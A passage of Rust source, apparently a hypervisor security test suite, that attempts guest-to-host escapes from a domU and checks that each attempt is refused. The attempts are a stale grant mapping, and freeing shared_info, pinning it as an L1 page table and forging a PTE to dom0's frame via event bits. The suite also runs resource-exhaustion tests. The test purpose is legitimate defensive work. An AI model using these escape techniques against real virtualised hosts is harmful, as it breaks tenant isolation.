             {populated_total}; the victim's frame {v_data:#x} among them: {reclaimed}"
        ));
        // SAFETY: pinning the frame VA1 still maps: refused while VA1 maps it writable.
        pin = Ret(unsafe { mm::pin(1, v_data) });
        if pin.0 >= 0 {
            // SAFETY: undoes it.
            unsafe { mm::unpin(v_data) };
        }
    }
    t.verdict(
        "stale-grant-mapping-after-granter-destroyed",
        // Refused when the revocation removed VA1's mapping, or, if it is still live, when
        // its frame can neither be reclaimed nor pinned.
        !live || (!reclaimed && pin.0 < 0),
        format_args!(
            "VA1 entry {e1:#x} after the victim was destroyed (live mapping of its frame: \
             {live}, reads {read:x?}); reclaimed through populate_physmap: {reclaimed}; pin as \
             L1 returned {pin}"
        ),
    );
    // Tidy up what can be: the handles that are left, then the slots.
    let _ = gunmap(va1, m1.handle);
    let _ = gunmap(va2, m2.handle);
    let _ = gunmap(va1, m2.handle);
    let _ = w2.close();
    let _ = w1.close();
}

/// Finding 1 from a domU: `shared_info` freed with `decrease_reservation`; then pinned as an
/// L1 (cleared in the same batch), hooked into the attacker's tables, with the event pending
/// bits forged into a PTE for dom0's data frame.
fn finding1(t: &mut Tally, dom0_data: &Target, hooked: Result<mm::Mapping, (&str, Ret)>) {
    let si_mfn = start_info().shared_info >> 12;
    let si_va = xenia_guest_rt::boot::start_info_va() + PAGE;
    let mut extents = [si_mfn];
    // SAFETY: if this is accepted the frame stays mapped here and the hypervisor keeps writing
    // it: the escape the test reports (nothing below writes shared_info through the mapping).
    let freed = unsafe { mm::reservation(XENMEM_DECREASE_RESERVATION, &mut extents, DOMID_SELF) };
    t.verdict(
        "free-own-shared-info",
        freed <= 0,
        format_args!("decrease_reservation returned {}", rc(freed)),
    );

    // The forged PTE: word FORGE_WORD of evtchn_pending (entry 256 + FORGE_WORD of the frame as
    // an L1) gets bits P, RW and the frame number of dom0's data frame, each set by sending on
    // the IPI port of that bit. All other ports stay masked so that no upcall is needed.
    const FORGE_WORD: u32 = 1;
    // Where the arrays sit in the frame, in 8-byte entries (guest-abi `shared_info`: 32
    // vcpu_info of 64 bytes, then evtchn_pending, then evtchn_mask).
    const PENDING_ENTRY: usize = 256;
    const MASK_ENTRY: usize = PENDING_ENTRY + EVTCHN_WORDS;
    // vcpu_info[0]'s first word with only evtchn_upcall_mask (byte 1) set.
    const UPCALL_MASKED_ENTRY: u64 = 1 << 8;
    const PIN_TRIES: u32 = 8;
    let want = pte::entry(dom0_data.mfn, pte::PRESENT | pte::RW);
    let bits: u64 = want;
    let last_port = FORGE_WORD * 64 + 63 - bits.leading_zeros();
    // Bind IPI ports up to the last bit needed (they come lowest first).
    let mut bound = 0u32;
    let mut bind_err = None;
    while bound < last_port {
        match calls::evtchn_bind_ipi(0) {
            Ok(p) if p <= last_port => bound = bound.max(p),
            Ok(_) => break,
            Err(e) => {
                bind_err = Some(e);
                break;
            }
        }
    }
    if bound < last_port {
        println!(
            "attack shared-info-as-l1-forged-pte: ERROR (bound IPI ports up to {bound}, need \
             {last_port}: {bind_err:?})"
        );
        t.succeeded += 1;
        return;
    }
    // Make the frame look like an empty L1 (the upcall mask, byte 1 of vcpu_info[0], stays
    // set: entry 0 is then 0x100, not present), have it mapped read-only, and pin it. The
    // hypervisor may rewrite the time fields between the two (they would then look like
    // present entries and fail validation): try a few times.
    let si = si_va as *mut u64;
    let rw = pte::entry(si_mfn, pte::PRESENT | pte::RW);
    let mut pinned = 0i64;
    let mut ro = 0i64;
    for _ in 0..PIN_TRIES {
        for i in 0..512 {
            let v = match i {
                0 => UPCALL_MASKED_ENTRY,
                // Mask words: every port masked but bit 0 of each word, so that no mask word is
                // a present entry.
                _ if (MASK_ENTRY..MASK_ENTRY + EVTCHN_WORDS).contains(&i) => !1,
                _ => 0,
            };
            // SAFETY: shared_info is mapped writable here; every bit pattern is valid for it
            // and Rust holds no reference into it across this loop.
            unsafe { si.add(i).write_volatile(v) };
        }
        // SAFETY: from here shared_info is only read through the runtime (time), which a
        // read-only mapping allows.
        ro = unsafe {
            mm::update_va(
                si_va,
                pte::entry(si_mfn, pte::PRESENT),
                UVMF_INVLPG | UVMF_LOCAL,
            )
        };
        // SAFETY: pinning changes no mapping; the frame is mapped read-only only.
        pinned = unsafe { mm::pin(1, si_mfn) };
        if pinned >= 0 {
            break;
        }
        // SAFETY: the frame is the attacker's data frame again.
        unsafe { mm::update_va(si_va, rw, UVMF_INVLPG | UVMF_LOCAL) };
    }
    if pinned < 0 {
        t.verdict(
            "pin-own-shared-info-as-l1",
            true,
            format_args!(
                "pin returned {} {PIN_TRIES} times (read-only remap {})",
                rc(pinned),
                rc(ro)
            ),
        );
        return;
    }
    t.verdict(
        "pin-own-shared-info-as-l1",
        false,
        format_args!("pin returned {}", rc(pinned)),
    );
    // Hook it into a table of our own: the free 2 MiB slot after HOOK_VA's.
    let forged_va = HOOK_VA + (2 << 20) + (PENDING_ENTRY as u64 + u64::from(FORGE_WORD)) * PAGE;
    let l2 = mm::walk(HOOK_VA)[2];
    let (Ok(_), Some(l2)) = (&hooked, l2) else {
        println!(
            "attack shared-info-as-l1-forged-pte: ERROR (cannot build the hook tables: {:?})",
            hooked.err()
        );
        t.succeeded += 1;
        return;
    };
    let l2_entry_ma = (l2.table << 12) + 8 * (l2.index as u64 + 1);
    // SAFETY: the L2 entry is empty and the attacker's; it covers no address Rust uses.
    let hook = unsafe {
        mm::set_entry(
            l2_entry_ma,
            pte::entry(si_mfn, pte::PRESENT | pte::RW | pte::USER),
        )
    };
    for b in 0..64 {
        if bits & (1 << b) != 0 {
            let _ = calls::evtchn_send(FORGE_WORD * 64 + b);
        }
    }
    // Nothing ever used the forged address, so no TLB entry needs flushing.
    let read = read_probe(forged_va);
    let wrote = read.is_some() && write_probe(forged_va + 8 * 511, PWNED);
    t.verdict(
        "shared-info-as-l1-forged-pte",
        read.is_none(),
        format_args!(
            "hook into L2 returned {}; read through the forged entry {read:x?}; wrote dom0's \
             frame: {wrote}",
            rc(hook)
        ),
    );
}

// ---------------------------------------------------------------------------------------------
// exhaust, ticker, partial

fn exhaust() -> ! {
    events::mask();
    let me = arg("self") as DomId;
    let mut c = Checks::new();

    // Event ports until refused.
    let mut ports = 0u32;
    let mut refusal = None;
    for _ in 0..PORT_TRIES {
        match calls::evtchn_alloc_unbound(DOMID_SELF, 0) {
            Ok(_) => ports += 1,
            Err(e) => {
                refusal = Some(e);
                break;
            }
        }
    }
    println!("exhaust: {ports} event ports, then {refusal:?}");
    c.check(
        "alloc_unbound ends with ENOSPC or ENOMEM",
        matches!(
            refusal,
            Some(guest_abi::Errno::ENOSPC) | Some(guest_abi::Errno::ENOMEM)
        ),
        format_args!("{ports} ports, then {refusal:?}"),
    );
    let mut closed = 0u32;
    for p in 1..EVTCHN_2L_NR_CHANNELS {
        if calls::evtchn_close(p).is_ok() {
            closed += 1;
        }
    }
    note(format_args!("closed {closed} ports"));

    // Grant maps of its own grants (no host mapping: each map costs only hypervisor memory)
    // until the maptrack is full.
    let mut q = [GnttabQuerySize {
        dom: DOMID_SELF,
        status: 0x7777,
        ..Default::default()
    }];
    // SAFETY: a query; it only writes the structure.
    let _ = unsafe { gnttab(GNTTABOP_QUERY_SIZE, &mut q) };
    let nr = q[0].max_nr_frames.clamp(1, EXHAUST_GRANT_FRAMES);
    let mut frames = [0u64; EXHAUST_GRANT_FRAMES as usize];
    if let Err((ret, s)) = setup_table(nr, &mut frames) {
        error(format_args!(
            "setup_table({nr}) returned {}, status {s}",
            Ret(ret)
        ));
    }
    let Some((_, data)) = mm::fresh_frame() else {
        error(format_args!("no fresh frame"));
    };
    let refs = nr * ENTRIES_PER_FRAME;
    for (i, &f) in frames[..nr as usize].iter().enumerate() {
        // SAFETY: the slot is this role's; the frame is its grant table.
        let w = window("grant table", unsafe { Window::writable(SLOT_TABLE, f) });
        let table = Table { window: w };
        for r in 0..ENTRIES_PER_FRAME {
            if i == 0 && r == 0 {
                continue;
            }
            table.grant(r, me, data, GTF_PERMIT_ACCESS);
        }
        let _ = table.window.close();
    }
    let mut maps = 0u32;
    let mut handles_max = 0u32;
    let mut last = GNTST_OKAY;
    let mut gref = 1u32;
    let mut full_refs = 0u32;
    'outer: while maps < MAP_TRIES && gref < refs {
        let mut ops = [GnttabMapGrantRef::default(); MAP_BATCH];
        for op in ops.iter_mut() {
            *op = GnttabMapGrantRef {
                host_addr: 0,
                flags: GNTMAP_DEVICE_MAP,
                gref,
                dom: me,
                status: 0x7777,
                handle: 0,
                dev_bus_addr: 0,
            };
        }
        // SAFETY: device maps change no page table.
        let ret = unsafe { gnttab(GNTTABOP_MAP_GRANT_REF, &mut ops) };
        if ret != 0 {
            last = -1;
            note(format_args!("map batch returned {}", Ret(ret)));
            break;
        }
        for op in &ops {
            match op.status {
                GNTST_OKAY => {
                    maps += 1;
                    handles_max = handles_max.max(op.handle + 1);
                }
                GNTST_NO_SPACE => {
                    last = GNTST_NO_SPACE;
                    break 'outer;
                }
                s => {
                    // This grant's pin count is full (Xen refuses at 127): next grant.
                    last = s;
                    full_refs += 1;
                    gref += 1;
                    continue 'outer;
                }
            }
        }
    }
    println!("exhaust: {maps} grant maps over {full_refs} full grants, then status {last}");
    c.check(
        "grant maps end with GNTST_no_space",
        last == GNTST_NO_SPACE,
        format_args!("{maps} maps, last status {last}"),
    );
    let mut unmapped = 0u32;
    let mut h = 0u32;
    while h < handles_max {
        let mut ops = [GnttabUnmapGrantRef::default(); MAP_BATCH];
        for (i, op) in ops.iter_mut().enumerate() {
            *op = GnttabUnmapGrantRef {
                host_addr: 0,
                dev_bus_addr: 0,
                handle: h + i as u32,
                status: 0x7777,
            };
        }
        // SAFETY: device maps change no page table.
        let _ = unsafe { gnttab(GNTTABOP_UNMAP_GRANT_REF, &mut ops) };
        unmapped += ops.iter().filter(|o| o.status == GNTST_OKAY).count() as u32;
        h += MAP_BATCH as u32;
    }
    c.eq("every grant map was unmapped", unmapped, maps);

    // A line that never ends.
    let chunk = [b'x'; PARTIAL_CHUNK];
    let mut accepted = 0u32;
    let mut write_err = None;
    for _ in 0..PARTIAL_WRITES {
        match calls::console_write(&chunk) {
            Ok(_) => accepted += 1,
            Err(e) => {
                write_err = Some(e);
                break;
            }
        }
    }
    println!();
    println!(
        "exhaust: {accepted} partial-line writes of {PARTIAL_CHUNK} bytes, error {write_err:?}"
    );
    c.check(
        "partial-line writes are accepted or refused with an error",
        accepted == PARTIAL_WRITES || write_err.is_some(),
        format_args!("{accepted} accepted"),
    );
    // Mid-line on purpose: the hypervisor must forget this partial line with the domain.
    let result = c.result();
    println!("Test result: {}", result.word());
    console::flush();
    let _ = calls::console_write(b"exhaust: the end, without a newline");
    shutdown(ShutdownReason::Poweroff)
}

fn ticker() -> ! {
    events::mask();
    let port = match events::bind_virq(guest_abi::event::VIRQ_TIMER) {
        Ok(p) => p,
        Err(e) => error(format_args!("bind VIRQ_TIMER: {e:?}")),
    };
    let mut n = 0u64;
    let mut next = now_ns() + TICK_NS;
    loop {
        while now_ns() < next {
            let _ = calls::set_timer_op(next);
            let _ = calls::sched_poll(&[port], next + TICK_NS);
            events::clear_pending(port);
        }
        n += 1;
        println!("tick {n}");
        next += TICK_NS;
    }
}

fn partial() -> ! {
    let _ = calls::console_write(b"partial: this line never ends ");
    let _ = calls::console_write(&[b'.'; 512]);
    shutdown(ShutdownReason::Poweroff)
}
